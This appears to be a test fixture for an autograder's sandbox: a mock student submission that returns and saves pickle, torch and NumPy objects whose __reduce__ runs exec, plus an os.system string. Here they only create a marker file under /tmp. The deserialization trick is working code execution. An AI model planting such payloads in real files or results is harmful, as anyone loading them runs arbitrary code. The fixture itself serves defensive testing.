# attack: whoever unpickles, loads or evaluates a result runs the student's code
# row: pickle
# points: softmax_rows=0 summary=0
# status: softmax_rows=returned summary=returned
# %%
import pickle

import numpy as np
import torch


class Payload(dict):
    def __reduce__(self):
        return (exec, ("open('/tmp/planted-{{TOKEN}}', 'w').write('x')",))


def softmax_rows(X):
    torch.save({"x": Payload()}, "checkpoint.pt")
    np.save("results.npy", np.array([Payload()], dtype=object), allow_pickle=True)
    with open("results.pkl", "wb") as file:
        pickle.dump(Payload(), file)
    return pickle.dumps(Payload())


def summary(X, k):
    return [Payload(), "__import__('os').system('touch /tmp/planted-{{TOKEN}}')", np.array([Payload()], dtype=object)]
